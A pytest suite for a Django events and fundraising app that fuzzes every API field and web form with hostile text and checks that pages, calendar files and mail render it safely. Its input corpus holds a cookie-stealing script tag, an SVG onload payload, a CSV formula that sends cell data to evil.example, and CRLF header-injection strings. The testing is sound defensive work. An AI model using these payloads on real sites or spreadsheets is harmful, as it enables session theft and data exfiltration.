"""Hostile text into every writable field of every API endpoint and of the forms people fill in.

Each value of the corpus goes into one field at a time, the others valid; the answer is a 4xx, or a
2xx after which what was stored renders safely (pages, the calendar file, the API) — never a 5xx.
"""

import json
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone
from drf_spectacular.generators import SchemaGenerator
from rest_framework.authtoken.models import Token

from communities.routine.models import CheckinEntry
from events.models import Event
from tests.events.factories import EventFactory, RegistrationFactory
from tests.factories import CommunityFactory, MembershipFactory, UserFactory
from tests.fundraising.conftest import make_campaign

pytestmark = pytest.mark.django_db

CORPUS = {
    "nul": "before\x00after",
    "crlf": "first line\r\nsecond line",
    "controls": "bell\x07 escape\x1b[31m vertical\x0b form\x0c c1\x85 del\x7f",
    "separators": "line\u2028paragraph\u2029end",
    "long": "x" * 100_000,
    "lone surrogate": "\ud800broken",
    "rtl": "\u202eevil.exe\u202c and \u200fשלום\u200f",
    "emoji": "Running team 🏃‍♀️👩‍👩‍👧 ❤️",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula plus": "+1+1",
    "formula at": "@SUM(A1:A9)",
    "script": "<script>alert(document.cookie)</script>",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
}
NOW = timezone.now()


@pytest.fixture
def world(db):
    manager = UserFactory(is_staff=True, email="manager@example.org")
    community = CommunityFactory(join_policy="open")
    MembershipFactory(community=community, user=manager, role="manager")
    member = MembershipFactory(community=community, role="member")
    event = EventFactory(community=community, starts_at=NOW + timedelta(days=10), capacity=1000)
    registration = RegistrationFactory(event=event, guest_name="Guest", guest_email="guest@example.org")
    campaign = make_campaign(community)
    entry = CheckinEntry.objects.create(
        community=community, membership=member, reason="new", ref="hostile", due_on=NOW.date()
    )
    return {
        "manager": manager,
        "token": Token.objects.create(user=manager).key,
        "community": community,
        "member": member,
        "event": event,
        "registration": registration,
        "campaign": campaign,
        "entry": entry,
    }


def path_for(path, world):
    """Fill a schema path's parameters with the fixture's objects."""
    community, event = world["community"], world["event"]
    ids = {
        "/api/v1/communities/{community_pk}/checkins/{id}/": world["entry"].pk,
        "/api/v1/communities/{community_pk}/members/{id}/": world["member"].user_id,
        "/api/v1/communities/{community_pk}/memberships/{id}/": world["member"].pk,
        "/api/v1/events/{id}/": event.pk,
        "/api/v1/registrations/{id}/": world["registration"].pk,
        "/api/v1/communities/{id}/": community.pk,
    }
    filled = path.replace("{community_pk}", str(community.pk))
    for prefix, pk in ids.items():
        if path.startswith(prefix) or path == prefix:
            return filled.replace("{id}", str(pk))
    return filled


def resolve(schema, node):
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[-1]]
    return node


def valid_value(name, prop, world):
    """A value the endpoint accepts for a field, so that only the field under test is hostile."""
    if "enum" in prop:
        return prop["enum"][0]
    if name == "community" and prop.get("type") == "string":
        return world["community"].slug
    known = {
        "starts_at": (NOW + timedelta(days=20)).isoformat(),
        "ends_at": (NOW + timedelta(days=20, hours=2)).isoformat(),
        "registration_deadline": (NOW + timedelta(days=19)).isoformat(),
        "community": world["community"].pk,
        "campaign": world["campaign"].pk,
        "amount": "500.00",
        "currency": "RUB",
        "email": "someone@example.org",
        "donor_email": "donor@example.org",
        "timezone": "Europe/Moscow",
    }
    if name in known:
        return known[name]
    kind, fmt = prop.get("type"), prop.get("format")
    if fmt == "email":
        return "someone@example.org"
    if fmt == "uri":
        return "https://example.org/"
    if fmt == "date":
        return (NOW + timedelta(days=5)).date().isoformat()
    if fmt == "date-time":
        return (NOW + timedelta(days=5)).isoformat()
    return {"string": "Plain text", "integer": 1, "number": 1, "boolean": True, "array": [], "object": {}}.get(kind)


def writable_operations():
    schema = SchemaGenerator().get_schema(request=None, public=True)
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if method in ("post", "put", "patch") and content:
                yield schema, path, method, resolve(schema, content["schema"])


def test_every_string_field_of_every_api_endpoint_answers_hostile_text_without_a_5xx(client, world):
    headers = {"Authorization": f"Token {world['token']}"}
    tried = 0
    for schema, path, method, body in writable_operations():
        properties = {name: resolve(schema, prop) for name, prop in body.get("properties", {}).items()}
        writable = {name: prop for name, prop in properties.items() if not prop.get("readOnly")}
        base = {name: valid_value(name, writable[name], world) for name in body.get("required", []) if name in writable}
        strings = [name for name, prop in writable.items() if prop.get("type") == "string" or "enum" in prop]
        for field in strings:
            for label, value in CORPUS.items():
                data = json.dumps({**base, field: value})
                response = getattr(client, method)(
                    path_for(path, world), data=data, content_type="application/json", headers=headers
                )
                tried += 1
                assert response.status_code < 500, f"{method.upper()} {path} {field} <- {label}: {response.status_code}"
    assert tried > 200  # every endpoint took part


def test_invalid_utf8_in_an_api_body_is_a_400(client, world):
    response = client.post(
        "/api/v1/events/",
        data=b'{"title": "\xff\xfe broken", "community": 1}',
        content_type="application/json",
        headers={"Authorization": f"Token {world['token']}"},
    )

    assert response.status_code == 400


def test_an_event_written_with_hostile_text_still_renders_its_page_calendar_and_registration(client, world):
    headers = {"Authorization": f"Token {world['token']}"}
    stored = 0
    for label, value in CORPUS.items():
        title = value[:200]
        body = {
            "community": world["community"].slug,
            "title": title,
            "description": value,
            "place": title,
            "starts_at": (NOW + timedelta(days=3)).isoformat(),
            "ends_at": (NOW + timedelta(days=3, hours=2)).isoformat(),
        }
        created = client.post(
            "/api/v1/events/", data=json.dumps(body), content_type="application/json", headers=headers
        )
        assert created.status_code in (201, 400), label
        if created.status_code == 400:
            continue
        stored += 1
        event = Event.objects.get(pk=created.json()["id"])
        Event.objects.filter(pk=event.pk).update(status=Event.Status.PUBLISHED)

        page = client.get(reverse("events:detail", kwargs={"pk": event.pk}))
        ics = client.get(reverse("events:ics", kwargs={"pk": event.pk}))
        registered = client.post(
            reverse("events:register", kwargs={"pk": event.pk}),
            {"guest_name": "Lena", "guest_email": f"lena-{stored}@example.org"},
        )

        assert page.status_code == 200, label
        assert "<script>alert" not in page.text, label
        assert "<svg" not in page.text, label
        assert ics.status_code == 200, label
        assert b"\x00" not in ics.content
        assert all(line.startswith((" ", "\t")) or ":" in line for line in ics.content.decode().split("\r\n") if line)
        assert registered.status_code in (200, 302), label
    assert stored >= 7  # the harmless-but-odd values (emoji, RTL, formulas, markup) are kept, safely


def test_the_calendar_and_mail_builders_escape_text_stored_before_validation_existed(world, commit, mailoutbox):
    # Rows written earlier (or by a script) may hold anything; the builders must not break on it.
    from events.calendars import community_ics, event_ics
    from members.services import message_queue

    raw = "Title\r\nX-Injected: yes\x07\x0b\u2028end"  # PostgreSQL itself refuses NUL
    event = EventFactory(community=world["community"], title=raw, place=raw, description=raw)

    single = event_ics(event).decode()
    feed = community_ics(world["community"], [event]).decode()
    with commit():
        message_queue(key="hostile:1", to_email="a@example.org", subject=raw, body_text="body", headers={"X-Note": raw})

    for text in (single, feed):
        assert "\x07" not in text
        assert "\r\nX-Injected" not in text
    sent = mailoutbox[0].message()
    assert sent["Subject"] == "Title X-Injected: yes end"
    assert sent["X-Injected"] is None


class FormFinder(HTMLParser):
    """The POST forms of a page: their action and each field's name, kind and current value."""

    def __init__(self):
        super().__init__()
        self.forms, self._form, self._textarea, self._select = [], None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "get").lower() == "post":
            self._form = {"action": attrs.get("action") or "", "fields": {}, "text": []}
            self.forms.append(self._form)
        elif self._form is None or not attrs.get("name"):
            return
        elif tag == "input":
            self._input(attrs)
        elif tag == "textarea":
            self._textarea = attrs["name"]
            self._form["fields"][self._textarea] = ""
            self._form["text"].append(self._textarea)
        elif tag == "select":
            self._select = attrs["name"]
        elif tag == "option" and self._select and self._select not in self._form["fields"] and attrs.get("value"):
            self._form["fields"][self._select] = attrs["value"]

    def _input(self, attrs):
        kind, name = attrs.get("type", "text"), attrs["name"]
        if kind in ("checkbox", "radio"):
            if "checked" in attrs:
                self._form["fields"][name] = attrs.get("value", "on")
        elif kind not in ("submit", "button", "file", "password"):
            self._form["fields"][name] = attrs.get("value", "")
            if kind in ("text", "search", "tel", "url", "email") and name != "csrfmiddlewaretoken":
                self._form["text"].append(name)

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def forms_on(client, url):
    page = client.get(url)
    assert page.status_code < 500, url
    if page.status_code != 200:
        return []
    finder = FormFinder()
    finder.feed(page.text)
    return [form for form in finder.forms if form["text"]]


# Forms get the corpus folded into fewer values (a page post is slower than an API call); a lone
# surrogate cannot be encoded into a form post at all (invalid UTF-8 has its own test below).
FORM_CORPUS = {
    "nul and crlf": CORPUS["nul"] + CORPUS["crlf"],
    "controls and separators": CORPUS["controls"] + CORPUS["separators"],
    "long": CORPUS["long"],
    "rtl and emoji": CORPUS["rtl"] + CORPUS["emoji"],
    "formulas": CORPUS["formula"],
    "markup": CORPUS["script"] + CORPUS["svg"],
}


def fuzz_forms(client, urls):
    posted = 0
    for url in urls:
        for form in forms_on(client, url):
            action = form["action"] or url
            for field in form["text"]:
                for label, value in FORM_CORPUS.items():
                    response = client.post(action, {**form["fields"], field: value})
                    posted += 1
                    assert response.status_code < 500, f"{action} {field} <- {label}"
        assert client.get(url).status_code < 500, url  # whatever was stored renders
    return posted


def test_every_text_field_of_the_forms_people_fill_in_answers_hostile_text_without_a_5xx(client, world):
    community, event, campaign = world["community"], world["event"], world["campaign"]
    Event.objects.filter(pk=event.pk).update(status=Event.Status.PUBLISHED)
    guest_pages = [
        reverse("events:detail", kwargs={"pk": event.pk}),
        reverse("fundraising:give", kwargs={"kind": "campaign", "slug": campaign.slug}),
        reverse("account_signup"),
        reverse("account_reset_password"),
    ]
    posted = fuzz_forms(client, guest_pages)

    client.force_login(world["manager"])
    slug = community.slug
    manager_pages = [
        reverse("communities:create"),
        reverse("communities:manage", kwargs={"slug": slug}),
        reverse("communities:manage_invitations", kwargs={"slug": slug}),
        reverse("communities:manage_announcements", kwargs={"slug": slug}),
        reverse("communities:calls", kwargs={"slug": slug}),
        reverse("communities:checkin_queue", kwargs={"slug": slug}),
        reverse("communities:directory_member", kwargs={"slug": slug, "membership_id": world["member"].pk}),
        reverse("events:new", kwargs={"slug": slug}),
        reverse("events:edit", kwargs={"pk": event.pk}),
        reverse("events:manage", kwargs={"pk": event.pk}),
        reverse("events:check_in", kwargs={"pk": event.pk}),
        reverse("fundraising:campaign_create", kwargs={"community": slug}),
        reverse("fundraising:campaign_update_new", kwargs={"slug": campaign.slug}),
        reverse("fundraising:offline_new", kwargs={"slug": campaign.slug}),
        reverse("fundraising:fundraiser_open", kwargs={"slug": campaign.slug}),
        reverse("members:account"),
    ]
    posted += fuzz_forms(client, manager_pages)
    assert posted > 200


def test_invalid_utf8_in_a_form_post_is_answered_without_a_5xx(client, world):
    Event.objects.filter(pk=world["event"].pk).update(status=Event.Status.PUBLISHED)
    url = reverse("events:register", kwargs={"pk": world["event"].pk})

    response = client.generic(
        "POST",
        url,
        data=b"guest_name=%FF%FE%C0&guest_email=lena%40example.org",
        content_type="application/x-www-form-urlencoded",
    )

    assert response.status_code < 500
